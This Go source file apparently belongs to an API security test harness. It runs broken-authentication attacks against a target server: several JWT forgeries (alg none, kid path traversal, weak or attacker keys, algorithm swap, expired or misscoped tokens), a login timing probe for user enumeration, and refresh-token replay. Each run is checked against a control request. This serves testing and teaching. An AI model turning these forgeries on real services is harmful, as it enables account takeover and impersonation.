package attack

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"hash"
	"net/http"
	"slices"
	"strings"
	"time"
)

// Broken authentication (OWASP API2:2023). The token attacks take a valid
// access token of alice's and try to make the server accept a forged or
// wrongly scoped variant of it at GET /users/me.
func authAttacks() []Attack {
	jwtAttack := func(id, cwe, story string, forge func(t *Target, valid string, claims map[string]any) (string, string, error)) Attack {
		return Attack{
			ID: "auth/" + id, Issue: "auth", OWASP: "API2:2023", CWE: cwe, Story: story,
			Run: func(ctx context.Context, t *Target) (Result, error) {
				return runForgedToken(ctx, t, forge)
			},
		}
	}
	return []Attack{
		jwtAttack("jwt-alg-none", "CWE-347", "Send a token with alg \"none\" and no signature.",
			func(_ *Target, valid string, claims map[string]any) (string, string, error) {
				h := header(valid)
				h["alg"] = "none"
				return encode(h, claims, nil, ""), "unsigned token with alg none", nil
			}),
		jwtAttack("jwt-tampered-claims", "CWE-345", "Change the role and subject in the payload and keep the old signature.",
			func(_ *Target, valid string, claims map[string]any) (string, string, error) {
				claims["role"] = "admin"
				parts := strings.Split(valid, ".")
				return segment(header(valid)) + "." + segment(claims) + "." + parts[2], "payload edited, signature kept", nil
			}),
		jwtAttack("jwt-kid-injection", "CWE-347", "Point kid at /dev/null and sign with an empty key, for servers that read keys from files.",
			func(_ *Target, valid string, claims map[string]any) (string, string, error) {
				h := header(valid)
				h["kid"] = "../../../../../../dev/null"
				return encode(h, claims, sha256.New, ""), "kid ../../dev/null, empty HMAC key", nil
			}),
		jwtAttack("jwt-wrong-kid", "CWE-347", "Correct signature, but a kid the server has no key for: it must not try its keys in turn.",
			func(t *Target, valid string, claims map[string]any) (string, string, error) {
				if t.SigningKey == nil {
					return "", "", errNeedKey
				}
				h := header(valid)
				h["kid"] = "retired-2019"
				return encode(h, claims, sha256.New, string(t.SigningKey)), "kid retired-2019, signed with the real key", nil
			}),
		jwtAttack("jwt-attacker-key", "CWE-347", "Sign the token with a key the attacker made up.",
			func(_ *Target, valid string, claims map[string]any) (string, string, error) {
				return encode(header(valid), claims, sha256.New, "attacker-chosen-secret-key-0123456789"), "signed with attacker key", nil
			}),
		jwtAttack("jwt-guessable-key", "CWE-1391", "Sign the token with common weak secrets (secret, changeme, …).",
			func(_ *Target, valid string, claims map[string]any) (string, string, error) {
				// One guess per run keeps the request count low; the
				// others are in the evidence of a real cracking run.
				return encode(header(valid), claims, sha256.New, "secret"), "signed with \"secret\"", nil
			}),
		jwtAttack("jwt-alg-swap", "CWE-327", "Re-sign with HS512 under the real key: the server must pin its algorithm.",
			func(t *Target, valid string, claims map[string]any) (string, string, error) {
				if t.SigningKey == nil {
					return "", "", errNeedKey
				}
				h := header(valid)
				h["alg"] = "HS512"
				return encode(h, claims, sha512.New, string(t.SigningKey)), "HS512 with the real key", nil
			}),
		jwtAttack("jwt-expired", "CWE-613", "Replay a correctly signed token that expired an hour ago.",
			func(t *Target, valid string, claims map[string]any) (string, string, error) {
				if t.SigningKey == nil {
					return "", "", errNeedKey
				}
				past := time.Now().Add(-time.Hour)
				claims["exp"] = past.Unix()
				claims["iat"] = past.Add(-10 * time.Minute).Unix()
				claims["nbf"] = claims["iat"]
				return encode(header(valid), claims, sha256.New, string(t.SigningKey)), "exp one hour ago", nil
			}),
		jwtAttack("jwt-no-expiry", "CWE-613", "Send a correctly signed token without exp, valid forever on a lenient server.",
			func(t *Target, valid string, claims map[string]any) (string, string, error) {
				if t.SigningKey == nil {
					return "", "", errNeedKey
				}
				delete(claims, "exp")
				return encode(header(valid), claims, sha256.New, string(t.SigningKey)), "exp removed", nil
			}),
		jwtAttack("jwt-wrong-audience", "CWE-287", "Use a correctly signed token minted for another service (audience).",
			func(t *Target, valid string, claims map[string]any) (string, string, error) {
				if t.SigningKey == nil {
					return "", "", errNeedKey
				}
				claims["aud"] = []string{"billing-service"}
				return encode(header(valid), claims, sha256.New, string(t.SigningKey)), "aud billing-service", nil
			}),
		jwtAttack("jwt-wrong-issuer", "CWE-287", "Use a correctly signed token from another issuer.",
			func(t *Target, valid string, claims map[string]any) (string, string, error) {
				if t.SigningKey == nil {
					return "", "", errNeedKey
				}
				claims["iss"] = "https://evil.example"
				return encode(header(valid), claims, sha256.New, string(t.SigningKey)), "iss evil", nil
			}),
		{
			ID: "auth/user-enumeration", Issue: "auth", OWASP: "API2:2023", CWE: "CWE-204",
			Story: "Tell registered emails from unknown ones by the login answer or its timing.",
			Run:   userEnumeration,
		},
		{
			ID: "auth/refresh-token-reuse", Issue: "auth", OWASP: "API2:2023", CWE: "CWE-294",
			Story: "Replay a refresh token that was already used (stolen) and keep the session alive.",
			Run:   refreshReuse,
		},
	}
}

var errNeedKey = fmt.Errorf("needs the server's signing key") //nolint:gochecknoglobals // sentinel.

// runForgedToken gets a real token, forges a variant and reports EXPLOITED if
// GET /users/me accepts it. A control request with the real token must be
// accepted, or the verdict would prove nothing.
func runForgedToken(ctx context.Context, t *Target, forge func(*Target, string, map[string]any) (string, string, error)) (Result, error) {
	tok, err := t.login(ctx, t.Alice)
	if err != nil {
		return Result{}, err
	}
	if _, x, err := t.me(ctx, tok.AccessToken); err != nil {
		return Result{}, err
	} else if x.status != http.StatusOK {
		return Result{}, fmt.Errorf("control request with a valid token failed: %s", x)
	}
	forged, what, err := forge(t, tok.AccessToken, claimsOf(tok.AccessToken))
	if err == errNeedKey { //nolint:errorlint // sentinel compared directly, never wrapped.
		return skipped("needs the server's signing key (tests and the workshop provide it)")
	}
	if err != nil {
		return Result{}, err
	}
	_, x, err := t.me(ctx, forged)
	if err != nil {
		return Result{}, err
	}
	if x.status == http.StatusOK {
		return exploited("%s accepted: %s", what, x)
	}
	if x.status != http.StatusUnauthorized {
		return exploited("%s answered %d, not 401: %s", what, x.status, x)
	}
	return blocked("%s refused: %s", what, x)
}

func header(token string) map[string]any {
	return decodeSegment(strings.Split(token, ".")[0])
}

func claimsOf(token string) map[string]any {
	return decodeSegment(strings.Split(token, ".")[1])
}

func decodeSegment(s string) map[string]any {
	b, _ := base64.RawURLEncoding.DecodeString(s)
	m := map[string]any{}
	_ = json.Unmarshal(b, &m)
	return m
}

func segment(v map[string]any) string {
	b, _ := json.Marshal(v)
	return base64.RawURLEncoding.EncodeToString(b)
}

// encode builds header.claims.signature; with a nil hash the signature is
// empty (alg none).
func encode(h, claims map[string]any, newHash func() hash.Hash, key string) string {
	signingInput := segment(h) + "." + segment(claims)
	if newHash == nil {
		return signingInput + "."
	}
	mac := hmac.New(newHash, []byte(key))
	mac.Write([]byte(signingInput))
	return signingInput + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
}

// userEnumeration compares the login answers for an unknown email and for a
// known email with a wrong password: status, body (less the request id and
// instance) and median time. Three of each stay inside the free attempts of
// the login limits, and both accounts see the same number of failures, so
// the limits treat them alike. The stated bound: medians within a factor of
// 1.5 of each other. Without the dummy hash the unknown email answers in
// ~1 ms against ~50 ms, a factor of 20 or more.
func userEnumeration(ctx context.Context, t *Target) (Result, error) {
	if err := t.settle(ctx, 6); err != nil {
		return Result{}, err
	}
	if err := t.ensure(ctx, t.Alice); err != nil {
		return Result{}, err
	}
	const rounds = 3
	nobody := fmt.Sprintf("nobody-%d@example.com", time.Now().UnixNano())
	var unknown, known []time.Duration
	var bodyUnknown, bodyKnown string
	var statusUnknown, statusKnown int
	for range rounds {
		probe := loginRequest(nobody, "wrong-password-123")
		probe.probe = true // timing a paced retry would measure the wait
		x, err := t.send(ctx, probe)
		if err != nil {
			return Result{}, err
		}
		unknown = append(unknown, x.elapsed)
		statusUnknown, bodyUnknown = x.status, normalizeProblem(x.body)

		probe = loginRequest(t.Alice.Email, "wrong-password-123")
		probe.probe = true
		x, err = t.send(ctx, probe)
		if err != nil {
			return Result{}, err
		}
		known = append(known, x.elapsed)
		statusKnown, bodyKnown = x.status, normalizeProblem(x.body)
	}
	if statusUnknown == http.StatusTooManyRequests || statusKnown == http.StatusTooManyRequests {
		return Result{}, fmt.Errorf("inconclusive: the login limits are already spent on this server (429); run against a fresh server")
	}
	if statusUnknown != statusKnown || bodyUnknown != bodyKnown {
		return exploited("unknown email → %d %s; known email, wrong password → %d %s", statusUnknown, bodyUnknown, statusKnown, bodyKnown)
	}
	mu, mk := median(unknown), median(known)
	ratio := float64(mk) / float64(max(mu, time.Microsecond))
	// A leak is a difference every sample shows: the two kinds were sent
	// in turn, so a load spike on the machine slows some of each, and
	// moves a median without separating the two sets. An early return
	// for unknown emails (1 ms against tens) separates them every time.
	if (ratio > 1.5 || ratio < 1/1.5) && separated(unknown, known) {
		return exploited("same answer (%d) but median time unknown %s vs known %s (×%.1f): timing tells them apart", statusKnown, mu, mk, ratio)
	}
	return blocked("same status %d and body; median time unknown %s vs known %s (×%.2f; a leak is beyond ×1.5 with every sample apart)", statusKnown, mu.Round(time.Millisecond), mk.Round(time.Millisecond), ratio)
}

func loginRequest(email, password string) request {
	b, _ := json.Marshal(map[string]string{"email": email, "password": password})
	return request{method: http.MethodPost, path: "/api/v1/auth/login", body: string(b)}
}

// normalizeProblem drops the fields that differ per request by design.
func normalizeProblem(body []byte) string {
	m := map[string]any{}
	if err := json.Unmarshal(body, &m); err != nil {
		return string(body)
	}
	delete(m, "request_id")
	delete(m, "instance")
	b, _ := json.Marshal(m)
	return string(b)
}

// separated reports whether every duration of a is below every one of b,
// or every one above.
func separated(a, b []time.Duration) bool {
	return slices.Max(a) < slices.Min(b) || slices.Min(a) > slices.Max(b)
}

func median(ds []time.Duration) time.Duration {
	s := slices.Clone(ds)
	slices.Sort(s)
	return s[len(s)/2]
}

// refreshReuse rotates a refresh token, then replays the spent one (as a
// thief would) and checks that the replay fails and also kills the rotated
// token the legitimate client holds.
func refreshReuse(ctx context.Context, t *Target) (Result, error) {
	tok, err := t.freshLogin(ctx, t.Bob)
	if err != nil {
		return Result{}, err
	}
	refresh := func(rt string) (*exchange, tokens, error) {
		b, _ := json.Marshal(map[string]string{"refresh_token": rt})
		x, err := t.send(ctx, request{method: http.MethodPost, path: "/api/v1/auth/refresh", body: string(b)})
		if err != nil {
			return nil, tokens{}, err
		}
		var next tokens
		_ = json.Unmarshal(x.body, &next)
		return x, next, nil
	}
	x, rotated, err := refresh(tok.RefreshToken)
	if err != nil {
		return Result{}, err
	}
	if x.status != http.StatusOK || rotated.RefreshToken == "" {
		return Result{}, fmt.Errorf("control: first refresh failed: %s", x)
	}
	replay, _, err := refresh(tok.RefreshToken)
	if err != nil {
		return Result{}, err
	}
	if replay.status == http.StatusOK {
		return exploited("spent refresh token accepted again: %s", replay)
	}
	if replay.status != http.StatusUnauthorized {
		return Result{}, fmt.Errorf("inconclusive: replay answered %d, not 401: %s", replay.status, replay)
	}
	after, _, err := refresh(rotated.RefreshToken)
	if err != nil {
		return Result{}, err
	}
	if after.status == http.StatusOK {
		return exploited("replay refused, but the family was not revoked: the rotated token still works: %s", after)
	}
	if after.status != http.StatusUnauthorized {
		return Result{}, fmt.Errorf("inconclusive: the rotated token answered %d, not 401: %s", after.status, after)
	}
	return blocked("replay refused (%d) and the whole family revoked (rotated token → %d)", replay.status, after.status)
}
